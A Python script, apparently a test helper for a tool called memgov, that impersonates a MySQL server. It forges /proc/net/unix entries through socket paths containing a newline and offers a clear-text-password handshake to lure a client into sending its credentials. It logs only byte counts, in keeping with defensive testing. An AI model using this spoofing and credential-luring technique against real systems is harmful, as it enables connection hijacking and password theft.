#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
# An unprivileged user's attempt to draw memgov's SQL connection to its own socket:
#   sql-impostor.py DIR SERVER_SOCKET_PATH N
# listens on DIR/i as an impostor that greets every client as a MySQL server would (a
# handshake offering mysql_clear_password, so that a client answers with its user and password)
# and appends one line per connection to DIR/log: "connection BYTES" (what the client sent);
# binds N sockets whose paths hold a newline and a /proc/net/unix line giving the server's
# socket inode (read from /proc/net/unix, readable by all) and DIR/i; then writes DIR/ready and
# serves until killed.
import os, socket, struct, sys, threading

d, server_path, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
inode = None
with open("/proc/net/unix") as f:
    for line in f:
        fields = line.split()
        if len(fields) >= 8 and fields[7] == server_path:
            inode = int(fields[6])
if inode is None:
    sys.exit("sql-impostor: no line for %s in /proc/net/unix" % server_path)

impostor = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
impostor.bind(d + "/i")
impostor.listen(16)
forgers = []
for k in range(n):
    path = "%s/%d\n0: 2 0 10000 1 1 %d %s/i" % (d, k, inode, d)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(path)
    s.listen(1)
    forgers.append(s)

def handshake():
    scramble = b"abcdefghijklmnopqrst"
    caps = 0x0001 | 0x0200 | 0x8000 | 0x00080000 | 0x00008000  # LONG_PASSWORD, PROTOCOL_41, SECURE_CONNECTION, PLUGIN_AUTH
    body = (b"\x0a" + b"5.5.5-10.11.0-MariaDB\0" + struct.pack("<I", 7) + scramble[:8] + b"\0" +
            struct.pack("<H", caps & 0xffff) + b"\x21" + struct.pack("<H", 2) + struct.pack("<H", caps >> 16) +
            bytes([21]) + b"\0" * 10 + scramble[8:] + b"\0" + b"mysql_clear_password\0")
    return struct.pack("<I", len(body))[:3] + b"\0" + body

def serve(c):
    got = 0
    try:
        c.settimeout(3)
        c.sendall(handshake())
        while True:
            b = c.recv(4096)
            if not b:
                break
            got += len(b)
    except OSError:
        pass
    with open(d + "/log", "a") as f:
        f.write("connection %d\n" % got)
    c.close()

open(d + "/ready", "w").close()
while True:
    c, _ = impostor.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
